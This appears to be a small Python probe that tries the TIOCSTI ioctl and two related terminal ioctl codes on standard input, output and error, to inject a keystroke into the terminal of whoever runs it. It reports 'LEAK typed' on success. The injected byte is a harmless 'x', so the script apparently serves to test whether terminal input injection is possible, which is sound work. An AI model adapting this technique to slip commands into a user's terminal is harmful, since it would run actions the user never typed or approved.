"""It types into the terminal of whoever runs it."""

import fcntl
for number in (0, 1, 2):
    for request in (0x5412, 0x541C, 0x5422):
        try:
            fcntl.ioctl(number, request, b"x")
            print("LEAK typed")
        except OSError as error:
            print(error)
